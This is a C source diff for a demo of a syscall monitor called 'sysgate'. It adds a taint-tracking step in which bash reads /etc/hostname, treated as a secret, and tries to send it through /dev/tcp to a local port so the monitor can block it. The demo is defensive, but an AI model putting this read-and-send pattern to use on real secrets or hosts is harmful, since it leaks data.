@@ -31,6 +31,12 @@ static char *const jail_default[] = { "sysgate", "jail", "--", "sh", "-c",
 				      "echo inside the jail; unshare -U true || echo 'unshare denied'",
 				      NULL };
 
+static char *const taint_send[] = {
+	"sysgate", "taint", "--secret", "/etc/hostname", "--", "bash", "-c",
+	"read -r h < /etc/hostname; echo \"$h\" > /dev/tcp/127.0.0.1/9 || echo 'the secret stayed home'",
+	NULL
+};
+
 static const struct demo_step steps[] = {
 	{ "trace: the syscalls of cat, decoded like strace",
 	  "every open, read and write of a program crosses the boundary",
@@ -44,6 +50,9 @@ static const struct demo_step steps[] = {
 	  stat_ls },
 	{ "jail: the default seccomp profile, every denial reported",
 	  "a shell may run; a new user namespace may not", jail_default },
+	{ "taint: /etc/hostname is declared secret; bash reads it, then tries to send it",
+	  "the monitor follows the data and refuses the connect to an untrusted place",
+	  taint_send },
 	{ "bench: the price of privilege, a quick ladder on this machine",
 	  "a function call, the vDSO, a syscall, seccomp, a fault, a signal, IPC, ptrace",
 	  bench_quick },
